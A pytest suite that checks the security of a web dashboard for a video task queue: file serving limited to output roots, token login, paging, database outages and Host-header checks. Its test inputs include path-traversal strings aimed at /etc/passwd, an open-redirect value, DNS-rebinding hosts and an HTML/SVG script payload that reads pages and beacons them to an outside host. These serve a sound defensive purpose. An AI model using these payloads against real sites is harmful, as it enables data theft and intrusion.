"""The dashboard over HTTP (a real `steerable_motion.py dashboard` process, requests sent byte for byte):
pages and /metrics on every backend, files only from the output roots, the token, paging."""
from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from source.queue.model import NewTask, Status
from tests.helpers.dashboard import parse_metrics, start_dashboard
from tests.helpers.workers import ROOT, make_backend

TOKEN = "correct-horse-battery-staple-42"


@pytest.fixture
def sqlite_backend(tmp_path):
    with make_backend("sqlite", tmp_path) as backend:
        yield backend


def _raw_counts(backend) -> dict[tuple[str, str], int]:
    queue = backend.queue()
    return {(c.task_type, c.status): c.rows for c in queue.status_counts()}


def _fill(backend, output_location: str) -> dict:
    """A complete run with an output, a failed row, a queued row; returns their ids."""
    queue = backend.queue()
    [done] = queue.enqueue([NewTask("noop", {}, run_id="run-done")])
    assert queue.complete(queue.claim("w", 60), output_location)
    [failed] = queue.enqueue([NewTask("extract_frame", {}, run_id="run-failed")])
    assert queue.fail(queue.claim("w", 60), "input_video_task_id: no such row <b>x</b>")
    [queued] = queue.enqueue([NewTask("noop", {"sleep": 1}, run_id="run-queued")])
    return {"done": done, "failed": failed, "queued": queued}


def test_pages_and_metrics_on_every_backend(backend):
    if backend.name == "supabase":
        output = "https://storage.example.invalid/storage/v1/object/public/videos/x/run-done_final.mp4"
    else:
        output = str(Path(backend.env["MAIN_OUTPUT_DIR"]) / "run-done_final.mp4")
        Path(output).parent.mkdir(parents=True, exist_ok=True)
        Path(output).write_bytes(b"\0\0\0\x18ftypmp42")
    ids = _fill(backend, output)
    dashboard = start_dashboard(backend)

    bodies = {}
    for path in ("/", "/runs", "/runs?status=Failed", "/runs/run-done", "/runs/run-failed", "/workers",
                 f"/runs/{ids['queued']}", "/metrics"):
        status, headers, body = dashboard.get(path)
        assert status == 200, (path, body[:300])
        bodies[path] = body.decode()
    overview = bodies["/"]
    assert 'data-count="noop|Complete">1<' in overview and 'data-count="extract_frame|Failed">1<' in overview
    assert "default-src 'self'" in dashboard.get("/")[1]["content-security-policy"]
    # the failed row's error is shown, escaped
    assert "no such row &lt;b&gt;x&lt;/b&gt;" in bodies["/runs/run-failed"]
    assert 'data-run="run-failed"' in bodies["/runs?status=Failed"]
    assert 'data-run="run-done"' not in bodies["/runs?status=Failed"]
    run_page = bodies["/runs/run-done"]
    if backend.name == "supabase":
        # a URL on a row is linked, never played through (or fetched by) the dashboard
        assert f'href="{output}"' in run_page and f'src="{output}"' not in run_page
        key = backend.env["SUPABASE_SERVICE_KEY"]
        assert all(key not in body for body in bodies.values())
        assert all(key[-24:] not in body for body in bodies.values())
    else:
        assert '<video' in run_page and 'src="/files/0/run-done_final.mp4"' in run_page
        status, headers, body = dashboard.get("/files/0/run-done_final.mp4")
        assert status == 200 and body.startswith(b"\0\0\0\x18ftyp") and headers["content-type"] == "video/mp4"

    samples = parse_metrics(bodies["/metrics"])
    counts = _raw_counts(backend)
    for (task_type, status_name), rows in counts.items():
        label = status_name.lower().replace(" ", "_")                 # lower_snake_case label values
        assert samples[("headless_tasks", (("status", label), ("task_type", task_type)))] == rows
    assert samples[("headless_tasks", (("status", "cancelled"), ("task_type", "noop")))] == 0
    assert samples[("headless_tasks_completed_total", (("task_type", "noop"),))] == 1
    assert samples[("headless_tasks_failed_total", (("task_type", "extract_frame"),))] == 1
    assert samples[("headless_task_duration_seconds_count", (("task_type", "noop"),))] == 1
    assert samples[("headless_task_duration_seconds_bucket", (("le", "+Inf"), ("task_type", "noop")))] == 1
    assert 0 <= samples[("headless_oldest_queued_age_seconds", ())] < 120
    assert samples[("headless_workers", (("state", "busy"),))] == 0


def test_files_come_only_from_the_output_roots(sqlite_backend, tmp_path):
    backend = sqlite_backend
    outputs = Path(backend.env["MAIN_OUTPUT_DIR"])
    (outputs / "sub").mkdir(parents=True)
    (outputs / "sub" / "clip one.mp4").write_bytes(bytes(range(256)) * 8)
    secret = tmp_path / "secret.txt"
    secret.write_text("not for the web")
    os.symlink(secret, outputs / "leak.mp4")
    os.symlink(tmp_path, outputs / "up")
    extra = tmp_path / "chosen"
    extra.mkdir()
    (extra / "run_final.mp4").write_bytes(b"chosen")
    queue = backend.queue()
    queue.enqueue([NewTask("noop", {}, run_id="r-extra"), NewTask("noop", {}, run_id="r-outside"),
                   NewTask("noop", {}, run_id="r-leak")])
    for location in (str(extra / "run_final.mp4"), str(secret), str(outputs / "leak.mp4")):
        assert queue.complete(queue.claim("w", 60), location)
    dashboard = start_dashboard(backend, "--output-roots", str(extra))

    status, headers, body = dashboard.get("/files/0/sub/clip%20one.mp4")
    assert status == 200 and len(body) == 2048 and headers["accept-ranges"] == "bytes"
    status, headers, body = dashboard.get("/files/0/sub/clip%20one.mp4", {"Range": "bytes=10-19"})
    assert status == 206 and body == bytes(range(10, 20))
    assert dashboard.get("/files/1/run_final.mp4")[2] == b"chosen"
    for attempt in ("/files/0/../secret.txt", "/files/0/%2e%2e/secret.txt", "/files/0/sub/..%2f..%2fsecret.txt",
                    "/files/0/%2Fetc%2Fpasswd", "/files/0//etc/passwd", "/files/0/leak.mp4",
                    "/files/0/up/secret.txt", "/files/0/sub", "/files/0/", "/files/2/run_final.mp4",
                    "/files/-1/run_final.mp4", "/files/x/run_final.mp4", "/files/1/../secret.txt",
                    "/files/0/sub/..\\..\\secret.txt", "/files/0/nothing.mp4"):
        status, _, body = dashboard.get(attempt)
        assert status == 404 and b"not for the web" not in body, attempt
    # the page plays what is under a root and shows anything else as a plain path
    assert 'src="/files/1/run_final.mp4"' in dashboard.get("/runs/r-extra")[2].decode()
    outside = dashboard.get("/runs/r-outside")[2].decode()
    assert str(secret) in outside and "/files/" not in outside
    assert "/files/" not in dashboard.get("/runs/r-leak")[2].decode()


def test_a_token_protected_dashboard_refuses_requests_without_it(sqlite_backend):
    backend = sqlite_backend
    refused = subprocess.run([sys.executable, "steerable_motion.py", "dashboard", "--host", "0.0.0.0"], cwd=ROOT,
                             env=backend.process_env(), capture_output=True, text=True, timeout=60)
    assert refused.returncode == 2 and "DASHBOARD_TOKEN" in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1

    backend.queue().enqueue([NewTask("noop", {}, run_id="private-run")])
    dashboard = start_dashboard(backend, DASHBOARD_TOKEN=TOKEN)
    status, headers, _ = dashboard.get("/runs/private-run", {"Accept": "text/html"})
    assert status == 303 and headers["location"] == "/login?next=%2Fruns%2Fprivate-run"
    for path in ("/", "/metrics", "/workers", "/files/0/x.mp4"):
        status, _, body = dashboard.get(path)
        assert status == 401 and b"private-run" not in body, path
    assert dashboard.get("/", {"Authorization": "Bearer wrong-token-of-some-length"})[0] == 401
    assert dashboard.get("/metrics", {"Authorization": f"Bearer {TOKEN}"})[0] == 200
    assert dashboard.get("/runs/private-run", {"X-Dashboard-Token": TOKEN})[0] == 200
    assert dashboard.get("/static/dashboard.css")[0] == 200 and dashboard.get("/login")[0] == 200

    form = {"Content-Type": "application/x-www-form-urlencoded"}
    status, headers, body = dashboard.get("/login", form, "POST", b"token=nope&next=%2Fruns")
    assert status == 401 and "set-cookie" not in headers and b"not the token" in body
    status, headers, _ = dashboard.get("/login", form, "POST", f"token={TOKEN}&next=%2Fruns%2Fprivate-run".encode())
    assert status == 303 and headers["location"] == "/runs/private-run"
    cookie = headers["set-cookie"].split(";")[0]
    assert "httponly" in headers["set-cookie"].lower() and "samesite=strict" in headers["set-cookie"].lower()
    assert TOKEN not in cookie
    status, _, body = dashboard.get("/runs/private-run", {"Cookie": cookie})
    assert status == 200 and b"private-run" in body and TOKEN.encode() not in body
    # a login never sends anyone off the site
    status, headers, _ = dashboard.get("/login", form, "POST", f"token={TOKEN}&next=%2F%2Fevil.example".encode())
    assert headers["location"] == "/"


def test_runs_are_paged_newest_first(sqlite_backend):
    backend = sqlite_backend
    queue = backend.queue()
    for start in range(0, 120, 40):
        queue.enqueue([NewTask("noop", {}, run_id=f"run-{i:03d}") for i in range(start, start + 40)])
    dashboard = start_dashboard(backend)
    pages = [dashboard.get(f"/runs?page={n}")[2].decode() for n in (1, 2, 3)]
    runs = [re.findall(r'data-run="(run-\d+)"', page) for page in pages]
    assert [len(r) for r in runs] == [50, 50, 20]
    assert runs[0][0] == "run-119" and runs[2][-1] == "run-000"
    assert sorted(sum(runs, [])) == [f"run-{i:03d}" for i in range(120)]
    assert "page=2" in pages[0] and "older →" in pages[1] and "older →" not in pages[2]
    status, _, body = dashboard.get("/runs/no-such-run")
    assert status == 404 and b"no run or row with id no-such-run" in body
    assert dashboard.get("/runs?page=oops&status=Nonsense")[0] == 200


def test_a_lost_database_is_a_503_that_names_no_secret(tmp_path):
    """The database goes away under a running dashboard: pages answer 503 in one line, the password in
    DATABASE_URL nowhere; the dashboard itself keeps running."""
    from psycopg.conninfo import conninfo_to_dict, make_conninfo

    from tests.helpers.services import PG_ADMIN_DSN, temporary_postgres_database
    from tests.helpers.workers import Backend

    with temporary_postgres_database("wq_dash") as dsn:
        params = conninfo_to_dict(dsn)
        params["password"] = "sekret-password-123"     # trust auth here: accepted and ignored
        backend = Backend("postgres", {"DB_TYPE": "postgres", "DATABASE_URL": make_conninfo(**params),
                                       "MAIN_OUTPUT_DIR": str(tmp_path / "outputs")}, tmp_path)
        try:
            dashboard = start_dashboard(backend)
            assert dashboard.get("/")[0] == 200
            import psycopg

            with psycopg.connect(PG_ADMIN_DSN, autocommit=True) as admin:
                admin.execute(f'DROP DATABASE "{params["dbname"]}" WITH (FORCE)')
            for path in ("/", "/runs", "/metrics"):
                status, _, body = dashboard.get(path)
                assert status == 503 and b"queue did not answer" in body, (path, body)
                assert b"sekret" not in body and len(body.decode().strip().splitlines()) == 1
            assert dashboard.proc.poll() is None and dashboard.get("/healthz")[0] == 200
            # one log line for the outage, not a traceback per request
            log = dashboard.log()
            assert "Traceback" not in log and log.count("queue did not answer") == 1, log[-3000:]
        finally:
            backend.stop_all()


def test_output_files_are_never_pages_of_the_dashboard(sqlite_backend):
    """A row can plant any file in an output folder: HTML, SVG and unknown types are downloads, every file
    comes with a CSP that lets nothing run, and nosniff."""
    outputs = Path(sqlite_backend.env["MAIN_OUTPUT_DIR"])
    outputs.mkdir(parents=True, exist_ok=True)
    script = b"<script>fetch('/runs').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>"
    (outputs / "evil.html").write_bytes(b"<html><body>" + script + b"</body></html>")
    (outputs / "evil.svg").write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>")
    (outputs / "notes.txt").write_bytes(b"<html>" + script)
    (outputs / "clip.mp4").write_bytes(b"\0\0\0\x18ftypmp42")
    (outputs / "still.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    dashboard = start_dashboard(sqlite_backend)
    for name in ("evil.html", "evil.svg", "notes.txt"):
        status, headers, _ = dashboard.get(f"/files/0/{name}")
        assert status == 200, name
        assert headers["content-disposition"].startswith("attachment"), (name, headers)
        assert headers["content-type"] == "application/octet-stream", (name, headers)
        assert "default-src 'none'" in headers["content-security-policy"] and "sandbox" in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
    for name, kind in (("clip.mp4", "video/mp4"), ("still.png", "image/png")):
        status, headers, _ = dashboard.get(f"/files/0/{name}")
        assert status == 200 and headers["content-type"] == kind and "content-disposition" not in headers
        assert "script-src 'none'" in headers["content-security-policy"] and headers["x-content-type-options"] == "nosniff"


def test_a_foreign_host_header_is_refused(sqlite_backend):
    """DNS rebinding: a request naming another site in Host is refused before any page or file answers."""
    dashboard = start_dashboard(sqlite_backend, DASHBOARD_HOSTNAMES="dash.example.org")
    port = dashboard.port
    for host in ("evil.example.com", f"evil.example.com:{port}", "127.0.0.1.evil.example", "dash.example.org.evil"):
        for path in ("/", "/metrics", "/files/0/x.mp4", "/runs"):
            status, _, body = dashboard.get(path, {"Host": host})
            assert status == 421 and b"host name" in body, (host, path, status)
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "dash.example.org", f"DASH.example.org:{port}"):
        assert dashboard.get("/", {"Host": host})[0] == 200, host


def test_a_run_id_with_a_slash_has_its_page(sqlite_backend):
    queue = sqlite_backend.queue()
    queue.enqueue([NewTask("noop", {}, run_id="team/a/run 1")])
    dashboard = start_dashboard(sqlite_backend)
    runs = dashboard.get("/runs")[2].decode()
    assert 'href="/runs/team/a/run%201"' in runs
    status, _, body = dashboard.get("/runs/team/a/run%201")
    assert status == 200 and "team/a/run 1" in body.decode()
